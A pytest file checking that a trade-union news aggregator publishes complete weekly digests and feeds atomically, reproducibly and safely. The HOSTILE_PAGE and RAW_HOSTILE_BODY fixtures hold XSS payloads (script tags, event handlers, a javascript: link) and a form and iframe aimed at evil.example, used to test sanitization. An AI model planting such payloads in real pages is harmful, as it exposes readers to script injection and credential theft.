"""publish(): every file, atomically; only weeks that are over; the same bytes whenever it runs; safe output."""

from __future__ import annotations

import os
from datetime import datetime, timedelta
from pathlib import Path

import feedparser
import pytest
from bs4 import BeautifulSoup

from aggregator.dates import SHANGHAI
from aggregator.extract import extract_article
from aggregator.normalize import normalize_record
from aggregator.processing import classify_record, store_record
from aggregator.publish import SECTION_SLUGS, publish, write_atomic
from aggregator.records import Page
from aggregator.sources import Source
from aggregator.store import Store
from tests.digest_data import Art, add_articles, add_sources, at, raw_contents, week30
from tests.test_sanitize import assert_safe

MONDAY = datetime(2025, 7, 28, 12, tzinfo=SHANGHAI)  # W31 has begun: W30 is the newest complete week
FEEDS = ["digest", "articles", *(f"section-{slug}" for slug in SECTION_SLUGS.values())]


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """The publish folder (the store's file sits in tmp_path itself)."""
    return tmp_path / "site"


@pytest.fixture
def filled(store: Store) -> Store:
    with store.session() as s:
        add_sources(s)
        add_articles(s, week30())
    return store


def run(store: Store, out: Path, now: datetime = MONDAY, **kwargs: object) -> list[str]:
    with store.sessions() as session:
        result = publish(session, out, now, base_url="https://news.example.org/", **kwargs)  # type: ignore[arg-type]
    return result.weeks


def test_writes_every_page_and_feed(filled: Store, out: Path) -> None:
    weeks = run(filled, out)
    assert weeks == ["2025-W30", "2025-W29"]  # newest first; W31 is not over
    expected = {"index.html", *(f"{w}.{ext}" for w in weeks for ext in ("html", "md")),
                *(f"{name}.{kind}.xml" for name in FEEDS for kind in ("rss", "atom"))}
    assert {p.name for p in out.iterdir()} == expected
    for name in FEEDS:
        for kind in ("rss", "atom"):
            parsed = feedparser.parse((out / f"{name}.{kind}.xml").read_bytes())
            assert not parsed.bozo, (name, kind, parsed.get("bozo_exception"))


def test_current_week_only_when_asked_for(filled: Store, out: Path) -> None:
    assert run(filled, out, weeks=["2025-W31"]) == ["2025-W31"]
    assert (out / "2025-W31.html").exists() and not (out / "2025-W30.html").exists()


def test_week_limit(filled: Store, out: Path) -> None:
    assert run(filled, out, limit=1) == ["2025-W30"]
    digest = feedparser.parse((out / "digest.atom.xml").read_bytes())
    assert [e.id.rsplit(":", 1)[1] for e in digest.entries] == ["2025-W30"]


def test_same_bytes_whenever_it_runs(filled: Store, out: Path) -> None:
    first, second = out / "a", out / "b"
    run(filled, first, MONDAY)
    run(filled, second, MONDAY + timedelta(days=5, hours=8))  # later the same week: the same weeks are over
    for path in sorted(first.iterdir()):
        assert path.read_bytes() == (second / path.name).read_bytes(), path.name


def test_section_and_article_feeds_follow_the_news(filled: Store, out: Path) -> None:
    run(filled, out)
    wq = feedparser.parse((out / "section-weiquan-fuwu.atom.xml").read_bytes())
    titles = [e.title for e in wq.entries]
    assert titles[0] == "下周的新闻"  # published Monday 00:00, before `now`: section feeds do not wait for the week's end
    assert "上周的新闻" in titles and "已删除的文章" not in titles
    assert all({t.term for t in e.tags} & set(SECTION_SLUGS) == {"维权服务"} for e in wq.entries)
    articles = feedparser.parse((out / "articles.rss.xml").read_bytes())
    live = [a for a in week30() if a.section != "none" and a.status == "ok"]
    assert len(articles.entries) == len(live) == 12  # every live article in a section, each outlet's copy on its own
    assert "江苏发布高温天气提示" not in [e.title for e in articles.entries]  # no section: not for subscribers


def test_items_limit(filled: Store, out: Path) -> None:
    run(filled, out, items=2)
    assert len(feedparser.parse((out / "articles.atom.xml").read_bytes()).entries) == 2
    assert len(feedparser.parse((out / "section-weiquan-fuwu.atom.xml").read_bytes()).entries) == 2


def test_review_marks_in_editor_formats_only(filled: Store, out: Path) -> None:
    run(filled, out)
    assert "【待审】" in (out / "2025-W30.md").read_text(encoding="utf-8")
    assert 'class="review"' in (out / "2025-W30.html").read_text(encoding="utf-8")
    for name in FEEDS:
        for kind in ("rss", "atom"):
            assert "待审" not in (out / f"{name}.{kind}.xml").read_text(encoding="utf-8"), name
    run(filled, out / "public", show_review=False)
    assert "待审" not in (out / "public" / "2025-W30.html").read_text(encoding="utf-8")


def test_summary_only(filled: Store, out: Path) -> None:
    run(filled, out, full_text=False)
    entry = feedparser.parse((out / "articles.atom.xml").read_bytes()).entries[0]
    assert f"{entry.title}的正文。" not in entry.content[0].value  # the stored body (see tests/digest_data.py)
    assert f"{entry.title}。这是摘要的正文" in entry.content[0].value  # the summary


def test_atomic_write_leaves_old_file_when_interrupted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "digest.rss.xml"
    write_atomic(target, "old")

    def broken(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", broken)
    with pytest.raises(OSError, match="disk full"):
        write_atomic(target, "new")
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["digest.rss.xml"]  # no temporary file left behind


def test_no_temporary_files_after_publish(filled: Store, out: Path) -> None:
    run(filled, out)
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


HOSTILE_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>县总工会为户外劳动者送清凉_县工会网</title>
<script>document.cookie</script><base href="https://evil.example/"></head><body onload="steal()">
<div class="article"><h1>县总工会为户外劳动者送清凉</h1>
<div class="info">发布时间：2025-07-23 09:30　来源：县工会网</div>
<div class="content" id="content">
<p onclick="alert(1)">7月22日，县总工会走进环卫站点、快递网点，为户外劳动者送去藿香正气水、绿豆和矿泉水等防暑降温物资。</p>
<script>alert('xss')</script>
<p>活动现场，工会干部向职工宣讲高温天气劳动保护政策，提醒用人单位合理安排作业时间，落实高温津贴。</p>
<img src="data:image/gif;base64,R0lGOD" data-src="https://mmbiz.qpic.cn/mmbiz_jpg/hostile/640?wx_fmt=jpeg" onerror="alert(3)">
<iframe src="https://evil.example/tracker"></iframe>
<p>据介绍，今年夏季县总工会将持续开展送清凉活动，覆盖全县一线职工三千余人次。<img src="x.jpg" onload="alert(4)"></p>
<svg><script>alert(5)</script></svg><form action="https://evil.example/"><input name="pw"></form>
</div></div></body></html>"""
# What a careless writer (an old row, a manual insert) might have stored without sanitizing.
RAW_HOSTILE_BODY = ('<p onmouseover="alert(1)">正文<script>alert(2)</script><a href="javascript:alert(3)">链接</a>'
                    '<iframe src="https://evil.example/x"></iframe><img src="https://mmbiz.qpic.cn/mmbiz_png/raw/0" '
                    'onerror="alert(4)"><object data="x.swf"></object>\x0b</p>')


def test_hostile_source_pages_publish_safely(store: Store, out: Path) -> None:
    source = Source(id="county", name="县工会网", family="generic", region="四川")
    page = Page(url="https://county.example.cn/a/hostile.html", body=HOSTILE_PAGE.encode("utf-8"),
                headers={"content-type": "text/html; charset=utf-8"}, fetched_at=at("2025-07-28"))
    record = extract_article(page, source)
    normalize_record(record, source, now=at("2025-07-28"))
    classify_record(record, None, manual="维权服务")  # type: ignore[arg-type]  # manual: no classifier needed
    with store.session() as s:
        add_sources(s)
        add_articles(s, [Art("province", "raw-hostile", "未经清理的正文", at("2025-07-24"), "维权服务",
                             body_html=RAW_HOSTILE_BODY)])
    store_record(store, record, page, at("2025-07-28"))
    run(store, out)

    contents: list[str] = []
    for name in FEEDS:
        for kind in ("rss", "atom"):
            data = (out / f"{name}.{kind}.xml").read_bytes()
            parsed = feedparser.parse(data)
            assert not parsed.bozo, (name, kind, parsed.get("bozo_exception"))
            # feedparser sanitizes what it reads; a subscriber's reader may not: check the HTML as written
            contents += raw_contents(data)
    bodies = [c for c in contents if "藿香正气水" in c or "未经清理的正文" in c or "正文" in c]
    assert any("藿香正气水" in c for c in bodies) and any("链接" in c for c in bodies)
    for content in contents:
        assert_safe(content)
        assert "evil.example" not in content
    # WeChat images keep loading: no Referer is sent for them
    images = [img for c in contents for img in BeautifulSoup(c, "lxml").find_all("img") if "qpic.cn" in img["src"]]
    assert images and all(img["referrerpolicy"] == "no-referrer" for img in images)
    for page_file in ("2025-W30.html", "index.html"):
        soup = BeautifulSoup((out / page_file).read_text(encoding="utf-8"), "lxml")
        assert soup.find("script") is None
        assert soup.find("meta", attrs={"name": "referrer"})["content"] == "no-referrer"
        assert "evil.example" not in str(soup)


@pytest.mark.postgres
def test_same_outputs_on_postgresql(filled: Store, tmp_path: Path) -> None:
    """Any SQLAlchemy URL works: the same store on PostgreSQL publishes the same bytes as on SQLite."""
    import uuid

    from sqlalchemy import create_engine, text

    from aggregator.store import open_store
    from tests.conftest import skip_or_fail

    admin_url = "postgresql+psycopg://postgres@127.0.0.1:5432/postgres"
    name = f"union_news_digest_{uuid.uuid4().hex[:10]}"
    try:
        admin = create_engine(admin_url, isolation_level="AUTOCOMMIT")
        with admin.connect() as conn:
            conn.execute(text(f'CREATE DATABASE "{name}"'))
    except Exception as exc:  # no server, no driver
        skip_or_fail(f"PostgreSQL on 127.0.0.1:5432 is not available ({exc.__class__.__name__}); start it or see .ci/run")
    try:
        pg = open_store(f"postgresql+psycopg://postgres@127.0.0.1:5432/{name}")
        try:
            with pg.session() as s:
                add_sources(s)
                add_articles(s, week30())
            run(pg, tmp_path / "pg")
        finally:
            pg.close()
        run(filled, tmp_path / "sqlite")
        for path in sorted((tmp_path / "sqlite").iterdir()):
            assert path.read_bytes() == (tmp_path / "pg" / path.name).read_bytes(), path.name
    finally:
        with admin.connect() as conn:
            conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()


def test_wechat_image_copies_are_used_when_there_are_some(store: Store, out: Path) -> None:
    from aggregator.images import ImageCache

    cached, uncached = "https://mmbiz.qpic.cn/mmbiz_jpg/copied/640", "https://mmbiz.qpic.cn/mmbiz_jpg/not-copied/640"
    with store.session() as s:
        add_sources(s)
        add_articles(s, [Art("wx_city", "pics", "图片新闻", at("2025-07-24"), "维权服务",
                             body_html=f'<p>正文</p><img src="{cached}"><img src="{uncached}">')])
    run(store, out / "before")
    cache = ImageCache(out / "img")
    cache.store(cached, b"\x89PNG\r\n\x1a\n" + bytes(32))
    cache.save()
    run(store, out)
    for name in ("articles", "section-weiquan-fuwu"):
        for kind in ("rss", "atom"):
            before = (out / "before" / f"{name}.{kind}.xml").read_bytes()
            after = (out / f"{name}.{kind}.xml").read_bytes()
            old = [img for html in raw_contents(before) for img in BeautifulSoup(html, "lxml").find_all("img")]
            new = [img for html in raw_contents(after) for img in BeautifulSoup(html, "lxml").find_all("img")]
            assert [i["src"] for i in old] == [cached, uncached]  # no copies: WeChat's URLs, without a Referer
            assert all(i["referrerpolicy"] == "no-referrer" for i in old)
            assert new[0]["src"] == f"https://news.example.org/img/{cache.manifest[cached]}"
            assert "referrerpolicy" not in new[0].attrs
            assert new[1]["src"] == uncached and new[1]["referrerpolicy"] == "no-referrer"
